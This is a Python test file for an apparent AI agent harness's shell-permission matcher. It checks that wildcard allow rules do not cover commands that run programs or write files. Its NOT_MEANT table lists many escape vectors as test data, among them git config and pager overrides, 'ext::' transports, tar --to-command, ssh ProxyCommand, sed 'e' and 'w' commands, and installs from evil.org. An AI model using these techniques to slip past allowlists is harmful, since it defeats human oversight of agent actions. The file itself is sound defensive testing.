"""A wildcard of an allowing rule stands for no option that runs programs or writes files [PERM]."""

from pathlib import Path

import pytest

from airboss.harness.rules import holds, suggest
from airboss.model.rules import Rule
from airboss.runtime.permission import PermissionRequest, permission_request

CWD = Path("/nowhere/work")


def asked(command: str) -> PermissionRequest:
    told = {"kind": "shell", "fullCommandText": command}
    return permission_request({"permissionRequest": told})


def allows(pattern: str, command: str) -> bool:
    return holds(Rule(verdict="allow", wish="shell", command=pattern), asked(command), CWD)


# For each rule the commands that it is not for, though they fit letter by letter.
NOT_MEANT = {
    "git *": """
        git -c alias.x=!touch x
        git -c core.sshCommand=touch fetch
        git -ccore.pager=touch log
        git '-c' core.pager=x log
        git "-c" core.pager=x log
        git -\\c core.pager=x log
        git -'c' core.pager=x log
        git "-"c core.pager=x log
        git --config-env=core.pager=X log
        git --config-env core.pager=X log
        git --exec-path=/tmp status
        git -C /tmp/other status
        git --git-dir=/tmp/other status
        git --git-di=/tmp/other status
        git --work-tree /tmp status
        git -p log
        git --paginate log
        git x
        git lg
        git status --c -c $X
        git diff --output=/etc/x
        git diff --output /etc/x
        git log --outpu=x
        git log --out x
        git show HEAD -- --output=x
        git diff --ext-diff
        git diff --ext
        git log --textconv
        git cat-file --filters HEAD:x
        git grep -O x
        git grep -nOless x
        git grep --open-files-in-pager=touch x
        git grep --open x
        git fetch --upload-pack=touch origin
        git fetch --upload-pa touch origin
        git fetch ext::sh\\ -c\\ touch
        git pull 'ext::sh -c touch%20x'
        git push --receive-pack=touch origin
        git push --exec=touch origin
        git push /tmp/other.git
        git push ../other.git main
        git push file:///tmp/other.git
        git push --repo=/tmp/other.git
        git push other.git main
        git push sub/other main
        git push other main
        git push -o origin other.git
        git push --push-option origin other.git
        git mv hook .git/hooks/post-checkout
        git mv hook link/post-checkout
        git ls-remote --upload-pack touch .
        git ls-remote -u touch .
        git ls-remote ./other
        git clone --upload-pack=touch x
        git clone -u touch x
        git clone x
        git init --template=x
        git archive -o /etc/x HEAD
        git bisect run touch x
        git rebase --exec touch HEAD~1
        git rebase -x touch HEAD~1
        git rebase -ix touch HEAD~1
        git rebase --ex=touch HEAD~1
        git rebase -s evil HEAD~1
        git merge --strategy=evil x
        git merge -sevil x
        git pull -s evil
        git submodule foreach touch
        git submodule update --init
        git submodule --quiet foreach touch
        git filter-branch --tree-filter touch
        git difftool -x touch
        git difftool --extcmd=touch
        git mergetool
        git format-patch -o /tmp HEAD~1
        git format-patch --output-directory=/tmp HEAD~1
        git worktree add /tmp/x
        git config core.hooksPath /tmp
        git config alias.x !touch
        git config --global core.pager x
        git config --add core.pager x
        git config --show-origin --add core.pager x
        git config -e
        git remote add x y
        git remote -v add x y
        git remote set-url origin x
        git apply --unsafe-paths x
        git apply --build-fake-ancestor=/tmp/x y
        git log $X
        git log "$X"
        git log `x`
        git add *
        git add ?x
        git log --out*
        git log -c 'open
    """,
    "*": """
        git -c a=b log
        find . -delete
        GIT_SSH_COMMAND=touch git fetch
        PAGER=touch git log
        LD_PRELOAD=x ls
        if git -c a=b log
        env x
        nohup x
        sudo git -c a=b log
    """,
    "g*": "git -c a=b log",
    "* status": "PAGER=x git status",
    "GIT_*": "GIT_PAGER=touch git log",
    "FOO=1 git *": "FOO=1 git -c a=b log",
    "/usr/bin/git *": "/usr/bin/git -c a=b log",
    "git -c core.pager=cat *": """
        git -c core.pager=cat -c core.pager=x log
        git -c core.pager=cat -C x log
    """,
    "git -c *": "git -c core.pager=x log",
    "git -c core.pager=* log": "git -c core.pager=touch log",
    "git log *": "git log --output=x",
    "git log --format=*": "git log --format=x --output=y",
    "git rebase --exec *": "git rebase --exec touch",
    "git submodule foreach *": "git submodule foreach touch",
    "git bisect run *": "git bisect run touch",
    "git config *": "git config alias.x !touch",
    "git config user.name *": "git config user.name x --file=/tmp/y",
    "git difftool *": "git difftool -x touch",
    "git clone *": """
        git clone -c core.pager=x y
        git clone --config core.pager=x y
        git clone -u touch x
        git clone --template=x y
        git clone ext::touch
    """,
    "find *": """
        find . -exec touch x +
        find . -execdir touch x +
        find . -ok touch x +
        find . -okdir touch x +
        find . -delete
        find . '-delete'
        find . -fprint /etc/x
        find . -fprint0 /etc/x
        find . -fprintf /etc/x y
        find . -fls /etc/x
        find . $X
    """,
    "find . -exec *": "find . -exec touch x +",
    "tar *": """
        tar xf x.tar
        tar -xf x.tar
        tar cf /etc/x y
        tar tfI x touch
        tar -tf x --to-command=touch
        tar -tf x --to-com touch
        tar -tf x --checkpoint=1 --checkpoint-action=exec=touch
        tar -tf x -I touch
        tar -Itouch -tf x
        tar -tf x --use-compress-program=touch
        tar -tf x --use-comp touch
        tar -tf x --rsh-command=touch
        tar -tf x -F touch
        tar -tf x --info-script=touch
        tar -tf x --new-volume-script=touch
        tar -tf x -T y
        tar -tf host:x
        tar --index-file=/etc/x -tf x
    """,
    "tar xf *": """
        tar xf x --to-command=touch
        tar xf x -C /etc
        tar xf x -P
        tar xf x -I touch
        tar xf x --one-top-level=/etc
    """,
    "tar xfI *": "tar xfI x touch",
    "tar -xf *": "tar -xf x -I touch",
    "tar cf x.tar *": """
        tar cf x.tar y -f /etc/x
        tar cf x.tar y -vf /etc/x
        tar cf x.tar y --file=/etc/x
    """,
    "tar -cf x.tar *": "tar -cf x.tar y -f/etc/x",
    "tar --create *": "tar --create -f /etc/x y",
    "tar -xfx -I *": "tar -xfx -I touch",
    "sed -f *": "sed -f x y",
    "rsync *": """
        rsync -e touch x y
        rsync -avze touch x y
        rsync --rsh=touch x y
        rsync --rsync-path=touch x y
        rsync --rsync-path touch x y
        rsync -M--x y z
        rsync --daemon
        rsync --config=x
        rsync --log-file=/etc/x y z
        rsync --write-batch=x y z
        rsync --backup-dir=/etc x y
        rsync -- -oProxyCommand=touch:x y
    """,
    "ssh *": """
        ssh build ls
        ssh localhost touch x
        ssh -o ProxyCommand=touch x
        ssh -oProxyCommand=touch x
        ssh -F x y
        ssh -E x y
    """,
    "ssh build *": """
        ssh build -oProxyCommand=touch
        ssh build -o ProxyCommand=touch
        ssh build -vo LocalCommand=touch
        ssh build -F x
        ssh build -E /etc/x
        ssh build -p 22 -oPermitLocalCommand=yes
        ssh build -I x
        ssh build -L 1:2:3
    """,
    "ssh build git *": """
        ssh build git -c core.pager=x log
        ssh build git log ' --output=x'
        ssh build git log '\\--output=x'
    """,
    "watch git *": "watch git log ' --output=x'",
    "git push *": "git push other.git main",
    "git mv *": "git mv hook .git/hooks/post-checkout",
    "scp *": """
        scp -S touch x y
        scp -oProxyCommand=touch x y
        scp -F x y z
    """,
    "sed *": """
        sed -i s/a/b/ x
        sed -i.bak s/a/b/ x
        sed -ni p x
        sed --in-place s/a/b/ x
        sed --in-pl s/a/b/ x
        sed -f x y
        sed e
        sed 1e
        sed 'e touch x'
        sed '1!e touch x'
        sed s/a/b/e x
        sed s/a/b/ge x
        sed 's/a/b/w /etc/x' y
        sed 'w /etc/x' y
        sed '1W /etc/x' y
        sed -e p -e 'w /etc/x' y
        sed -n -e 's/a/touch x/e' y
        sed --expression='s/a/touch x/e' y
        sed 's/[/]/g/w x' y
        sed 's/[]/]/x/e' y
        sed 's/[[:space:]/]/x/e' y
        sed 's/a\\/b/c/e' y
        sed '/x/e'
        sed '/[/]/e'
        sed x -i
    """,
    "sed -e *": "sed -e e x",
    "awk *": """
        awk -f x
        awk -i inplace x
        awk -l x
        awk -E x
        awk --file=x
        awk --load x
        awk -W exec x
        awk -o x
        awk '@load "x"'
        awk 'getline < "x"'
        awk -v a=b -f x
    """,
    "xargs *": """
        xargs touch
        xargs -0 touch
        xargs git status
    """,
    "xargs -n 1 *": "xargs -n 1 touch",
    "xargs -I % *": "xargs -I % touch",
    "xargs git *": """
        xargs git -c a=b log
        xargs git log
    """,
    "parallel git *": "parallel git -c a=b log",
    "flock x git *": "flock x git -c a=b log",
    "find . -exec git *": "find . -exec git -c a=b log \\;",
    "rg *": "rg --pre touch x",
    "sort *": """
        sort -o x y
        sort -ro x y
        sort --outp=x y
        sort --compress-program=touch y
    """,
    "fd *": """
        fd -x touch
        fd --exec-batch touch
    """,
    "tree *": "tree -o x",
    "env *": """
        env touch x
        env A=b touch x
        env -S 'touch x'
        env -i sh
    """,
    "env A=b *": "env A=b touch x",
    "env -u A *": "env -u A touch x",
    "env -S *": "env -S 'touch x'",
    "env A=b git *": "env A=b git -c a=b log",
    "sudo *": "sudo touch x",
    "sudo -u me git *": "sudo -u me git -c a=b log",
    "timeout 5 *": "timeout 5 touch x",
    "timeout 5 git *": "timeout 5 git -c a=b log",
    "nice -n 5 find *": "nice -n 5 find . -delete",
    "npx *": "npx evil",
    "eval *": "eval touch x",
    "make *": """
        make SHELL=/tmp/x
        make all SHELL=/tmp/x
        make -j SHELL=/tmp/x
        make 'CC=touch x'
        make -f /tmp/x
        make -f/tmp/x
        make --file=/tmp/x
        make --makefi /tmp/x
        make -C /tmp
        make --directory=/tmp
        make -kC /tmp
        make -I /tmp
        make --eval=x
        make --ev x
        make -E x
        make -e
        make -- SHELL=x
    """,
    "npm *": """
        npm exec evil
        npm x evil
        npm run build
        npm test
        npm install
        npm install evil
        npm config set script-shell x
        npm ls --script-shell=x
        npm ls --script-sh x
        npm ls -script-shell=x
        npm ls --node-options=x
        npm ls --prefix /tmp
        npm ls -C /tmp
        npm ls --userconfig=x
        npm init evil
        npm explore x
    """,
    "npm run *": """
        npm run build --script-shell=x
        npm run build -- --config=x
        npm run build --prefix=/tmp
    """,
    "npm install *": """
        npm install ./evil
        npm install ../evil
        npm install evil.tgz
        npm install https://evil.org/x
        npm install git+ssh://x
        npm install user/evil
        npm install x --registry=https://evil.org
    """,
    "npm exec *": "npm exec evil",
    "yarn *": "yarn dlx evil",
    "pip *": """
        pip install evil
        pip install -r x
        pip download evil
        pip wheel evil
        pip config set global.index-url x
        pip list --index-url=x
        pip list --log=/etc/x
        pip list --lo /etc/x
        pip --python x list
    """,
    "pip install *": """
        pip install .
        pip install ./evil
        pip install -e evil
        pip install evil.whl
        pip install evil.tar.gz
        pip install -r x
        pip install https://evil.org/x
        pip install git+https://evil.org/x
        pip install --index-url=https://evil.org x
        pip install --index-u https://evil.org x
        pip install -i https://evil.org x
        pip install --extra-index-url https://evil.org x
        pip install -f https://evil.org x
        pip install --target=/etc x
        pip install --config-settings=x y
    """,
    "pip3.11 *": "pip3.11 install evil",
    "python3 -m pip *": "python3 -m pip install evil",
}
# What such rules are for.
MEANT = {
    "git *": """
        git status
        git --no-pager log -n 3
        git diff --stat HEAD~1 -- src/a.py
        git diff --text
        git commit -m 'fix it'
        git commit -c HEAD
        git switch -c x
        git push -u origin main
        git push https://example.com/x.git main
        git push git@example.com:x.git main
        git fetch --all --filter=blob:none
        git stash pop --index
        git config --get user.name
        git remote -v
        git remote get-url origin
        git worktree list
        git submodule status
        git rebase --continue
        git log src/*.py
        git grep -n 'a$'
        git diff --output-indicator-new=x
    """,
    "*": """
        ls -l
        git status
        echo $HOME
        make all
    """,
    "git -c core.pager=cat *": "git -c core.pager=cat log",
    "git -C sub *": "git -C sub status",
    "git worktree add *": "git worktree add x",
    "git clone *": "git clone https://example.com/x y",
    "git log --output=x *": "git log --output=x HEAD",
    "FOO=1 git *": "FOO=1 git log",
    "find *": """
        find . -name '*.py' -print
        find src -type f -newer x
    """,
    "find * -delete": "find x -name y -delete",
    "tar *": """
        tar tf x.tar
        tar -tvzf x.tar.gz
        tar --list --file=x.tar
    """,
    "tar xf *": "tar xf x.tar a/b",
    "tar cf x.tar *": "tar cf x.tar src/y -v",
    "tar -czf *": "tar -czf x.tar.gz y",
    "tar -xzf *": "tar -xzf x.tar.gz --strip-components=1",
    "rsync *": "rsync -av --exclude x a/ b/",
    "ssh build *": """
        ssh build ls -la
        ssh build -v uptime
    """,
    "ssh -o BatchMode=yes build *": "ssh -o BatchMode=yes build uptime",
    "ssh build git *": "ssh build git status",
    "sed *": """
        sed -n 1,5p x
        sed -n '/a/,/b/p' x
        sed 's/a/b/g' x
        sed -E 's#(a|b)#c#' x
        sed 's/[a-z]*/x/' y
        sed 's/[[:space:]]*$/x/' y
        sed -e 's/a/b/' -e 1d x
        sed '$!N' x
    """,
    "sed -i *": "sed -i s/a/b/ x",
    "sed -i s/a/b/e *": "sed -i s/a/b/e x",
    "awk *": """
        awk NR==1 x
        awk -F: '/a/' x
        awk -F , -v a=b '$1 ~ a' x
    """,
    "git mv *": "git mv a b",
    "git push *": "git push origin main",
    "git push other.git *": "git push other.git main",
    "find . -exec grep *": "find . -exec grep -l x",
    "rg *": "rg -n --pretty --files x",
    "sort *": "sort -rn -k 2 x",
    "tree *": "tree -L 2 x",
    "watch git *": "watch git status",
    "xargs grep *": "xargs grep -n x",
    "xargs -0 -n 1 wc *": "xargs -0 -n 1 wc -l",
    "env A=b make *": "env A=b make all",
    "timeout 5 git *": "timeout 5 git log",
    "make *": """
        make test
        make -j4 -k all
        make -j 4 test
        make --jobs=4 --silent check
    """,
    "make CC=gcc *": "make CC=gcc all",
    "npm *": """
        npm ls --depth 0
        npm outdated
        npm view left-pad --json
    """,
    "npm run *": """
        npm run build
        npm run test:unit --silent
    """,
    "npm install *": """
        npm install left-pad
        npm install -D @types/node@20.1.0
    """,
    "pip *": """
        pip list
        pip show -v x
        pip list --format json
    """,
    "pip install *": """
        pip install -U requests
        pip install requests==2.31.0
    """,
    "python3 -m pip *": "python3 -m pip list",
    "python3 scripts/*": "python3 scripts/x.py -c y",
    "echo *": """
        echo git -c x
        echo $HOME *
    """,
    "cargo *": "cargo test -- --nocapture",
}


def each(table: dict[str, str]) -> list[tuple[str, str]]:
    lines = [(pattern, text.strip().splitlines()) for pattern, text in table.items()]
    return [(pattern, line.strip()) for pattern, found in lines for line in found]


@pytest.mark.parametrize(("pattern", "command"), each(NOT_MEANT))
def test_a_wildcard_does_not_stand_for_what_runs_or_writes(pattern: str, command: str) -> None:
    assert not allows(pattern, command)
    # A rule that denies is as broad as it was.
    if "'open" not in command:
        assert holds(Rule(verdict="deny", command=pattern), asked(command), CWD)


@pytest.mark.parametrize("blank", "\v\f\x1c\x85\u00a0\u2003\u3000")
def test_a_blank_that_a_shell_does_not_know_is_a_letter(blank: str) -> None:
    assert allows("./run *", " \t./run x\t")
    assert not allows("./run *", f"{blank}./run x")


@pytest.mark.parametrize(("pattern", "command"), each(MEANT))
def test_a_wildcard_stands_for_what_it_is_meant_for(pattern: str, command: str) -> None:
    # What has a sign that may separate commands is asked about as ever.
    assert allows(pattern, command) or any(sign in command for sign in "|()")


@pytest.mark.parametrize(("_", "command"), each(NOT_MEANT))
def test_always_allow_is_for_this_very_command_only(_: str, command: str) -> None:
    rule = suggest(asked(command), CWD)
    assert rule is not None
    assert rule.command is not None
    assert holds(rule, asked(command), CWD)
    for other in (f"{command} x", f"{command} --output=x", command.replace("x", "y") + " "):
        assert not holds(rule, asked(other), CWD)


def test_what_a_rule_spells_out_it_allows() -> None:
    for _, command in each(NOT_MEANT):
        if not set("*?\\") & set(command):
            assert allows(command, command), command
